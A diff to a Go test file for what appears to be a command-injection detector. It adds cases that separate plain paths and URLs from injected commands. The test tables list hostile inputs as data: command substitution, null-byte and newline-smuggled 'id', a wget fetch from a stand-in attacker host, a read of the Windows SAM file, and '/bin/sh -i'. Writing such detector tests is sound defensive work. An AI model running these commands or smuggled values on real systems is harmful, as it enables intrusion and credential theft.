@@ -701,7 +701,8 @@ func TestCommandMarks(t *testing.T) {
 		"load 10202": false, "hello world": false, "version 1.2.3": false, "ok": false, "sleep mask": false,
 		"x; id": true, "$(id)": true, "`id`": true, "id%00": true, `\nid\n`: true, "phpinfo()": true,
 		"wget https://evil.example/x": true, `type C:\WINNT\repair\SAM`: true, "/bin/ls -al": true,
-		"a\r\nb": true,
+		"a\r\nb": true, "pgconn/require_auth.go": false, "/bin/ls": false, "https://example.com/a/b": false,
+		"/bin/sh -i": true, "x/y%0aid": true,
 	} {
 		if got := fewWords(s) && !commandMarks(s); got != !want {
 			t.Errorf("%q: plain words = %v, want %v", s, got, !want)
@@ -719,6 +720,8 @@ func TestCommandMarks(t *testing.T) {
 		{"load 10202", "prompt_injection", "deny"}, // only command_injection is gated
 		{"id%00", "command_injection", "deny"},
 		{"load the data and then run it", "command_injection", "deny"}, // three words or more: the model's cut
+		{"pgconn/require_auth.go", "command_injection", "none"},        // a lone path starts no command
+		{"cat pgconn/require_auth.go", "command_injection", "deny"},
 	} {
 		if v, err := Evaluate(echo(tc.msg), c, answerAll(tc.label)); err != nil || v.Action != tc.want {
 			t.Errorf("%s at 0.99 in echo %q: %+v %v, want %s", tc.label, tc.msg, v, err, tc.want)
